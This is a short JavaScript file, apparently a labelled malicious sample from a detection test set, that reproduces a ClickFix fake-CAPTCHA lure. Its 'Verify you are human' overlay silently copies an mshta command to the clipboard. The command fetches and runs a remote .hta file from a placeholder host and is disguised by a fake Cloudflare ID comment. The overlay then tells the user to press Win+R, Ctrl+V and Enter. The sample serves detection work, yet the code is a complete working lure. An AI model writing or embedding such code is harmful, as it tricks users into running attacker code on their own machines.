// expect: malicious
// source: ClickFix fake-CAPTCHA kits shipped as npm front-end packages (2025 reports): the "verify you are
// human" overlay copies an mshta command through a hidden textarea and tells the user to press Win+R,
// Ctrl+V and Enter.
const CMD = 'mshta https://cdn.verify-gate.example/c.hta # Cloudflare human verification ID 4821';
export function showCheck(root) {
  const box = document.createElement('div');
  box.innerHTML = '<p>Verify you are human</p><ol><li>Press Win + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol>';
  root.appendChild(box);
  box.addEventListener('click', () => {
    const ta = document.createElement('textarea');
    ta.value = CMD;
    document.body.appendChild(ta);
    ta.select();
    document.execCommand('copy');
    ta.remove();
  });
}
